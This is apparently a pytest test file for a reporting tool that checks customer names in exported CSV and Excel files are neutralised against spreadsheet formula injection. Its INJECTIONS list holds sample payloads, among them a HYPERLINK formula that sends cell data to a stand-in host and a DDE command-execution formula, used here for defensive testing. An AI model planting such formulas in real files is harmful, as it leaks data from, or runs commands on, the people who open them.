"""Client files the pack writes: no live formula from a customer name, client-formatted workbooks.

Customer names such as ``=HYPERLINK(...)`` or ``=cmd|'/C calc'!A0`` come from the client's
own data. Every CSV and XLSX of a report pack is checked here after a real ``kam run``: CSV
text a spreadsheet would evaluate carries the OWASP quote prefix, every XLSX text is a string
cell, and the key-account workbook is formatted for the client.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from kamtools import io
from kamtools.cli import main
from kamtools.excel import workbook_bytes

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|'/C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1)",
    "-2+3",
    "\tTab Trading",
    "\rReturn Bau",
    r"$\undefinedmacro{x}$ Cash & Carry",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def test_csv_text_is_neutralised_and_read_back_exactly(tmp_path):
    names = [*INJECTIONS, "'=quoted", "Plain GmbH"]
    frame = pd.DataFrame({"name": names, "sales": range(len(names))})
    frame["sales"] = -frame["sales"].astype(float)
    io.write_table(frame, tmp_path / "t.csv", for_client=True)
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [row for row in csv.reader(handle)][1:]
    assert all(not name.startswith(DANGEROUS_START) for name, _ in cells)
    assert cells[0][0] == "'" + INJECTIONS[0]
    assert cells[-1][0] == "Plain GmbH"
    assert cells[1][1] == "-1.0", "numbers are not text: they stay numbers"
    back = io.read_output_table(tmp_path / "t.csv")
    assert back["name"].tolist() == frame["name"].tolist()


@pytest.mark.parametrize("dtype", [object, "str"])
def test_restoring_a_column_gives_what_each_cell_restored_gives(dtype):
    # Every mix of quotes and formula starts, as a column: the column-wise fast path must give
    # back exactly what restore_text gives cell by cell (a missing value stays missing).
    import itertools

    pieces = ["'", "''", "=", "+", "-", "@", "\t", "\r", "a", " ", "1"]
    texts = ["".join(p) for n in range(4) for p in itertools.product(pieces, repeat=n)]
    values = pd.Series([*texts, *INJECTIONS, *("'" + t for t in INJECTIONS), None], dtype=dtype)
    restored = io.restored(values)
    expected = values.map(io.restore_text, na_action="ignore")
    assert restored.iloc[:-1].tolist() == expected.iloc[:-1].tolist()
    assert pd.isna(restored.iloc[-1]) and restored.dtype == values.dtype
    assert (restored != values).sum() > 100  # the check sees texts that change


def test_a_stage_output_gives_back_its_neutralised_text(tmp_path):
    from kamtools import contract

    names = [*INJECTIONS, "'=quoted", "Plain GmbH"]
    tiers = pd.DataFrame({c.name: [c.example] * len(names) for c in contract.CUSTOMER_TIERS.columns})
    tiers["customer_id"] = [f"C{i}" for i in range(len(names))]
    tiers["customer_name"] = names
    io.write_stage_table(tiers, tmp_path, contract.CUSTOMER_TIERS.name, formats=("csv",))
    back = io.read_stage_output(tmp_path, contract.CUSTOMER_TIERS)
    assert back["customer_name"].tolist() == names


def test_xlsx_text_is_always_a_string_cell(tmp_path):
    frame = pd.DataFrame({"customer_id": ["C1", "C2"], "name": INJECTIONS[:2]})
    for for_client in (False, True):
        path = tmp_path / f"t{for_client}.xlsx"
        io.write_table(frame, path, for_client=for_client)
        sheet = load_workbook(path).active  # formulas, not values: a formula would show as such
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        assert {cell.data_type for cell in cells} == {"s"}
        assert [cell.value for cell in cells if cell.column == 2] == INJECTIONS[:2]


def test_key_account_workbook_is_formatted_for_the_client():
    frame = pd.DataFrame(
        {
            "customer_id": ["C1", "C2"],
            "name": ["Alpha", "Beta"],
            "rank": [1, 2],
            "score": [75.689209, 61.25],
            "sales": [1234567.891, 98765.4321],
            "margin": [0.2345678, 0.18],
            "_order": [1, 2],
        }
    )
    import io as stdio

    book = load_workbook(stdio.BytesIO(workbook_bytes(frame, title="key_accounts", currency="EUR")))
    sheet = book.active
    assert sheet.title == "Key accounts"
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == ["Customer id", "Name", "Rank", "Score", "Sales (EUR)", "Margin"]
    row = {sheet.cell(1, c.column).value: c for c in sheet[2]}
    assert row["Score"].value == 75.69 and row["Score"].number_format == "#,##0.0"
    assert row["Sales (EUR)"].value == 1234567.89 and row["Sales (EUR)"].number_format == "#,##0.00"
    assert row["Margin"].value == 0.2346 and row["Margin"].number_format == "0.0%"
    assert row["Rank"].number_format == "#,##0"
    assert sheet.column_dimensions["E"].width >= 14
    assert sheet.cell(1, 1).font.bold


@pytest.fixture(scope="module")
def pack_with_hostile_names(demo_workspace, tmp_path_factory) -> Path:
    """A screening pack of the demo whose largest customers carry formula-like names."""
    clients = tmp_path_factory.mktemp("clients")
    shutil.copytree(demo_workspace, clients / "demo")
    customers_file = clients / "demo" / "inputs" / "customers.csv"
    customers = pd.read_csv(customers_file, dtype=str, keep_default_na=False)
    sales = pd.read_csv(clients / "demo" / "inputs" / "sales.csv", dtype={"customer_id": str})
    largest = sales.groupby("customer_id")["net_sales"].sum().nlargest(len(INJECTIONS)).index
    names = dict(zip(largest, INJECTIONS, strict=True))
    customers["name"] = customers["customer_id"].map(names).fillna(customers["name"])
    customers.to_csv(customers_file, index=False, lineterminator="\r\n")
    reports = tmp_path_factory.mktemp("reports")
    argv = ["--clients-dir", str(clients), "run", "demo", "--stage", "screening", "--quiet"]
    assert main([*argv, "--reports-dir", str(reports)]) == 0
    [run_dir] = [p for p in (reports / "demo" / "2026").iterdir() if p.is_dir() and p.name != "latest"]
    return run_dir


def test_every_csv_of_the_pack_is_neutralised(pack_with_hostile_names):
    files = sorted(pack_with_hostile_names.rglob("*.csv"))
    assert {p.name for p in files} >= {"key_accounts.csv", "customer_tiers.csv"}
    for path in files:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(DANGEROUS_START) or _is_number(cell), (path.name, cell)
    tiers = io.read_output_table(pack_with_hostile_names / "customer_tiers.csv")
    # Intake trims spaces, tabs and line breaks around names; the rest comes back exactly.
    assert {n.strip() for n in INJECTIONS} <= set(tiers["name"])


def test_every_xlsx_of_the_pack_holds_no_formula(pack_with_hostile_names):
    files = sorted(pack_with_hostile_names.rglob("*.xlsx"))
    assert "key_accounts.xlsx" in {p.name for p in files}
    for path in files:
        for sheet in load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
    sheet = load_workbook(pack_with_hostile_names / "key_accounts.xlsx").active
    names = [c.value for c in sheet["B"][1:]]
    assert set(INJECTIONS[:3]) <= set(names)


def test_chart_text_is_never_parsed_as_maths():
    import matplotlib.pyplot as plt

    from kamtools.figures import configure_report_figures

    configure_report_figures()
    fig, ax = plt.subplots()
    ax.set_title(INJECTIONS[-1])
    ax.annotate(r"$x^{2$ broken", (0.5, 0.5))
    fig.canvas.draw()  # mathtext would raise ValueError on these
    assert ax.get_title(loc="left") == INJECTIONS[-1]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
